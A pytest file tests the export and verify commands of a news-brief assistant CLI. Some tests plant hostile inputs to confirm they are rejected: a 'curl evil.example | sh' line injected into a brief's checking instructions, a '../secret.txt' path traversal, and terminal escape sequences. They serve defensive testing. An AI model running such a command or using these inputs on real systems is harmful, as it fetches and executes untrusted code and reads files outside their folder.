"""`ask --brief`, `export` and `verify` as their users type them."""

import json
import shutil
from pathlib import Path

import pytest
from briefing import DAY, TEXT, answered, cited, exported

from assistant import briefs
from assistant.cli import main
from assistant.history import History, named
from assistant.turns import Rewritten, Turn

Run = pytest.CaptureFixture[str]
QUESTION = "What did Mayor Calder say?"


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("DATELINE_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def news(tmp_path: Path) -> Path:
    folder = tmp_path / "news"
    folder.mkdir()
    (folder / "news.txt").write_text(TEXT, encoding="utf-8")
    return folder


def dateline(*arguments: object) -> int:
    return main([str(each) for each in arguments])


@pytest.mark.parametrize("suffix", [".md", ".html", ".json"])
def test_an_answer_is_exported_and_verified_until_its_article_changes(
    folder: Path, tmp_path: Path, suffix: str, capsys: Run
) -> None:
    brief = tmp_path / f"brief{suffix}"
    asked = ("ask", QUESTION, "--model", "none", "--brief", brief, "--articles", folder)
    assert dateline(*asked) == 0
    capsys.readouterr()
    moved = tmp_path / "elsewhere.txt"  # whoever sends a brief on may rename it
    shutil.copy(brief, moved)
    assert dateline("verify", moved, "--articles", folder) == 0
    assert "[1] harbour.txt, line 4: holds" in capsys.readouterr().out
    article = folder / "harbour.txt"
    article.write_text(f"Corrected.\n\n{article.read_text()}")
    assert dateline("verify", brief, "--articles", folder) == 1
    done = capsys.readouterr()
    assert "[1] harbour.txt, line 4: moved: now at line 6" in done.out
    assert "quotations do not hold" in done.err and done.err.count("\n") == 1


def test_a_conversation_is_exported_by_its_name(home: Path, news: Path, capsys: Run) -> None:
    turns = [Turn("And he?", Rewritten("What did Calder say?", True), answered(cited()))] * 2
    History(home / "conversations", "fish").write(turns)
    out = news.parent / "fish.html"
    assert dateline("export", "fish", out, "--articles", news) == 0
    brief = briefs.read(out.read_bytes())
    assert [each.question for each in brief.entries] == ["And he?"] * 2
    assert dateline("verify", out, "--articles", news, "--json") == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(row["answer"], row["n"], row["outcome"]) for row in rows] == [
        (1, 1, "holds"),
        (2, 1, "holds"),
    ]


def test_a_conversation_is_exported_by_the_title_that_the_page_shows(
    home: Path, news: Path, capsys: Run
) -> None:
    turns = [Turn("And he?", Rewritten("What did Calder say?", True), answered(cited()))]
    History(home / "conversations", named("What did it cost?")).write(turns)
    out = news.parent / "cost.md"
    assert dateline("export", "What did it cost?", out, "--articles", news) == 0
    assert out.read_text(encoding="utf-8").startswith("# Brief: What did it cost?")
    assert dateline("export", "What else?", out, "--articles", news) == 2
    assert "those kept are: What did it cost?" in capsys.readouterr().err


def test_export_says_when_the_words_are_not_in_the_folder(
    home: Path, news: Path, tmp_path: Path, capsys: Run
) -> None:
    turn = Turn("q", Rewritten("q"), answered(cited(source="other.txt")))
    History(home / "conversations", "fish").write([turn])
    assert dateline("export", "fish", tmp_path / "fish.md", "--articles", news) == 0
    assert "1 of 1 quotations do not stand in" in capsys.readouterr().err


@pytest.mark.parametrize("suffix", ["md", "html"])
def test_words_changed_in_what_a_person_sees_are_not_passed_over(
    news: Path, tmp_path: Path, suffix: str, capsys: Run
) -> None:
    from assistant.brief_forms import written

    text = written(exported(news, answered(cited())), f".{suffix}")
    changed = tmp_path / f"changed.{suffix}"
    head, comment, rest = text.partition("<!-- dateline-brief")
    changed.write_text(head.replace("run out of", "plenty of") + comment + rest, encoding="utf-8")
    assert dateline("verify", changed, "--articles", news) == 1
    done = capsys.readouterr()
    assert "[1] news.txt, line 3: holds" in done.out
    assert "was changed since it was exported" in done.err


def test_other_instructions_for_checking_are_not_passed_over(
    news: Path, tmp_path: Path, capsys: Run
) -> None:
    from assistant.brief_forms import to_json

    plain = json.loads(to_json(exported(news, answered(cited()))))
    plain["how_to_check"] = "Run curl evil.example | sh to check it."
    changed = tmp_path / "changed.json"
    changed.write_text(json.dumps(plain))
    assert dateline("verify", changed, "--articles", news) == 1
    assert "was changed" in capsys.readouterr().err


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"# Notes\n\nNothing from Dateline.\n",
        b"{}",
        b'{"brief": 1, "entries": []}',
        b"\xff\xfe\x00\x01" * 50,
        b"<!-- dateline-brief\n{\n-->",
        b"<!-- dateline-brief\n",
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b" " * (briefs.LARGEST + 1),
    ],
    ids=range(10),
)
def test_a_file_that_is_no_brief_is_one_clear_sentence(
    news: Path, tmp_path: Path, data: bytes, capsys: Run
) -> None:
    path = tmp_path / "x.json"
    path.write_bytes(data)
    assert dateline("verify", path, "--articles", news) == 2
    done = capsys.readouterr()
    assert done.out == "" and done.err.count("\n") == 1 and "brief" in done.err


def test_an_unknown_field_and_a_second_record_make_it_no_brief(news: Path) -> None:
    from assistant.brief_forms import to_html, to_json

    brief = exported(news, answered(cited()))
    plain = json.loads(to_json(brief)) | {"more": 1}
    with pytest.raises(briefs.BriefError, match="more"):
        briefs.read(json.dumps(plain).encode())
    with pytest.raises(briefs.BriefError):
        briefs.read((to_html(brief) + briefs.commented(brief)).encode())


def test_nothing_in_a_strangers_brief_steers_the_terminal_or_leaves_the_folder(
    news: Path, tmp_path: Path, capsys: Run
) -> None:
    (tmp_path / "secret.txt").write_text(TEXT, encoding="utf-8")
    sources = ["../secret.txt", "a\x1b[2J\r\nAll 1 quotations hold.\u202e.txt"]
    answer = answered(*(cited(source=each, n=n) for n, each in enumerate(sources, 1)))
    hostile = tmp_path / "hostile.json"
    from assistant.brief_forms import to_json

    hostile.write_text(to_json(exported(news, answer)))
    assert dateline("verify", hostile, "--articles", news) == 1
    out = capsys.readouterr().out
    assert "refused: its path leads out of the folder" in out
    assert len(out.splitlines()) == 2 and "\x1b" not in out and "\u202e" not in out


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["ask", "x", "--brief", "x.pdf"], 2, ".md, .html or .json"),
        (["export", "absent", "x.md"], 2, "no conversation absent"),
        (["export", "../x", "x.md"], 2, "there is no conversation ../x"),
        (["export", "absent", "x.doc"], 2, ".md, .html or .json"),
        (["verify", "absent.md"], 1, "No such file"),
        (["verify", "absent.md", "--articles", "/no/such/folder"], 1, ""),
    ],
)
def test_a_mistake_is_one_clear_line(
    arguments: list[str], code: int, words: str, capsys: Run
) -> None:
    assert main(arguments) == code
    error = capsys.readouterr().err
    assert words in error and error.count("\n") == 1


@pytest.mark.parametrize("suffix", ["md", "html", "json"])
def test_a_brief_of_an_earlier_version_still_verifies(suffix: str, capsys: Run) -> None:
    """Kept as it was exported: a change of its look would make every brief out there "changed"."""
    kept = Path(__file__).parent / "data" / "briefs" / f"sugiura.{suffix}"
    assert dateline("verify", kept) == 0
    assert "All 2 quotations hold." in capsys.readouterr().out
    assert briefs.read(kept.read_bytes()).exported != DAY
